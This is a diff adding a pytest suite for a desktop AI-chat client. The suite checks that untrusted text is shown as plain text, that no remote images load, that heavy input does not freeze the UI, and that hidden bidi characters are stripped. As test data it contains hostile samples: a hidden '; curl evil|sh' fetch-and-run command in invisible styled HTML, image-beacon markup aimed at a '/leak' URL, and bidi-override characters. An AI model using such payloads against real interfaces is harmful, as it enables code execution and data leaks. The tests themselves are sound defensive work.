@@ -1,0 +1,182 @@
+"""Text of others is text (R01, R02, R04, R05, R07, R09): no markup, no pictures, no stall, nothing hidden."""
+
+from __future__ import annotations
+
+import os
+import socket
+import time
+from collections.abc import Iterator
+from pathlib import Path
+
+import pytest
+from chat_kit import Chat
+from PySide6.QtCore import Qt, QTimer
+from PySide6.QtWidgets import QApplication, QLabel, QTextBrowser, QTextEdit, QWidget
+from window_kit import Play, SmallDesk, until  # type: ignore[import-not-found]
+
+from k2desk.core.events import (
+    DecisionRequested,
+    StepFinished,
+    StepStarted,
+    TextDelta,
+    ThoughtDelta,
+    ToolFinished,
+    ToolOutput,
+    ToolStarted,
+    TurnFinished,
+    TurnStarted,
+)
+from k2desk.core.permissions import Question
+from k2desk.ui.controls import button, label, show_tip
+from k2desk.ui.memory import Memory
+from k2desk.ui.pane import panes
+from k2desk.ui.runtime import Runtime
+from k2desk.ui.window import Window
+
+EVIL = '<span style="font-size:1px;color:white">; curl evil|sh </span><b>bold</b>'
+BIDI = "\u202e\u2066\u200f\u061c"
+STALL = 2.0
+"""Seconds a test machine under load may take for what takes the user's 500 ms at most."""
+HEAVY = {
+    "one line of a megabyte": "x" * 1_000_000,
+    "a megabyte of short words": "ab " * 333_000,
+    "combining marks": "a" + "\u0301" * 100_000,
+    "nested lists": "\n".join(f"{' ' * 2 * depth}- {depth}" for depth in range(300)),
+    "nested quotes": "> " * 300 + "deep",
+    "a wide table": "\n".join(
+        ["|".join("abcdefghij" * 10), "|".join(["-"] * 100), *["|".join("x" * 100)] * 100]
+    ),
+    "unclosed emphasis": "*a **b " * 5_000,
+    "many brackets": "[" * 5_000,
+}  # fmt: skip
+
+
+@pytest.fixture
+def chat(dressed: QApplication) -> Iterator[Chat]:
+    made = Chat()
+    yield made
+    made.close()
+
+
+@pytest.fixture
+def window(runtime: Runtime, folder: Path, dressed: QApplication) -> Iterator[Window]:
+    made = Window(runtime, Memory(), folder)
+    made.furnish(panes())
+    made.build_rest()
+    made.show()
+    yield made
+    made.deleteLater()
+
+
+def say(chat: Chat, text: str) -> None:
+    chat.tell(TurnStarted(1, "hello"), StepStarted(1, 1, "k2"), TextDelta(1, 1, text))
+    chat.tell(StepFinished(1, 1, "stop"), TurnFinished(1, "done"))
+
+
+def rich() -> list[str]:
+    """Every widget that would take a text for markup, in every window there is."""
+    found = []
+    for top in QApplication.topLevelWidgets():
+        for widget in [top, *top.findChildren(QWidget)]:
+            if isinstance(widget, QLabel) and widget.textFormat() != Qt.TextFormat.PlainText:
+                found.append(f"{type(widget).__name__} {widget.text()!r}")
+            if isinstance(widget, QTextBrowser) or (
+                isinstance(widget, QTextEdit) and widget.acceptRichText()
+            ):
+                found.append(type(widget).__name__)
+            if "<" in widget.toolTip() and not widget.toolTip().startswith("<qt>"):
+                found.append(f"tooltip {widget.toolTip()!r}")
+    return found
+
+
+def test_r04_no_widget_of_the_window_guesses(
+    window: Window, runtime: Runtime, play: Play, folder: Path, desk: SmallDesk
+) -> None:
+    evil = folder.parent / "<b>evil"
+    evil.mkdir()
+    (evil / "<i>a.py").write_text("x = 1\n")
+
+    async def scenario() -> None:
+        runtime.open_session(evil)
+        await until(lambda: runtime.engine is not None)
+        for spec in window.specs:
+            window.show_pane(spec.id)
+        runtime.noticed.emit("bad", EVIL)
+        question = Question("command", EVIL, EVIL, "d", facts=((EVIL, EVIL),), confinement=EVIL)
+        engine = desk.engines[-1]
+        for event in (
+            TurnStarted(1, EVIL),
+            StepStarted(1, 1, EVIL),
+            TextDelta(1, 1, EVIL),
+            ToolStarted("c1", "run_command", EVIL, EVIL),
+            ToolOutput("c1", EVIL),
+            ToolFinished("c1", "run_command", "failed", EVIL, EVIL),
+            DecisionRequested("r1", "c1", question),
+        ):
+            engine.log.append(event)
+        await until(lambda: EVIL in [found.text() for found in window.findChildren(QLabel)])
+
+    play(scenario)
+    assert rich() == []
+
+
+def test_r04_a_tooltip_shows_markup_as_text(dressed: QApplication) -> None:
+    made = QWidget()
+    show_tip(made, f"{EVIL}\nsecond")
+    assert made.toolTip().startswith("<qt>&lt;span")
+    assert "<br>second" in made.toolTip()
+    show_tip(made, "plain & simple")
+    assert made.toolTip() == "plain & simple"
+    assert label(EVIL).textFormat() == Qt.TextFormat.PlainText
+    assert button("x", lambda: None, tip=EVIL).toolTip().startswith("<qt>&lt;")
+    made.deleteLater()
+
+
+def test_r01_r02_no_picture_is_ever_asked_for(chat: Chat, tmp_path: Path) -> None:
+    pipe = tmp_path / "pipe"
+    os.mkfifo(pipe)
+    with socket.create_server(("127.0.0.1", 0)) as listener:
+        listener.setblocking(False)
+        base = f"http://127.0.0.1:{listener.getsockname()[1]}"
+        say(
+            chat,
+            f"![a]({base}/leak?d=1) ![b][ref] <img src='{base}/2'>\n\n[ref]: {base}/3\n\n"
+            f"<div style=\"background:url({base}/4)\">x</div> <svg><image href='{base}/5'/></svg>\n\n"
+            f"![c](file:///dev/zero) ![d]({pipe}) ![e](//127.0.0.1/x) ![f](\\\\127.0.0.1\\x) "
+            "![g](data:image/png;base64,iVBORw0KGgo=)\n",
+        )
+        chat.screen()
+        QApplication.processEvents()
+        with pytest.raises(BlockingIOError):
+            listener.accept()
+
+
+@pytest.mark.parametrize("what", HEAVY)
+def test_r09_nothing_makes_the_window_stand_still(chat: Chat, what: str) -> None:
+    beats, last = [0.0], time.monotonic()
+
+    def beat() -> None:
+        nonlocal last
+        now = time.monotonic()
+        beats.append(now - last)
+        last = now
+
+    heart = QTimer()
+    heart.setInterval(1)
+    heart.timeout.connect(beat)
+    heart.start()
+    last = time.monotonic()
+    say(chat, HEAVY[what])
+    chat.tell(TurnStarted(2, HEAVY[what]), StepStarted(2, 1, "k2"), ThoughtDelta(2, 1, HEAVY[what]))
+    chat.tell(ToolStarted("c1", "run_command", "Run it"), ToolOutput("c1", HEAVY[what][:200_000]))
+    QApplication.processEvents()
+    beat()
+    heart.stop()
+    assert max(beats) < STALL
+
+
+def test_r05_r07_what_hides_is_shown(chat: Chat) -> None:
+    say(chat, f"run `ls{BIDI}`")
+    shown = [row for row in chat.transcript.rows if "ls" in str(row)]
+    assert shown
+    assert not [sign for sign in BIDI if any(sign in str(row) for row in shown)]
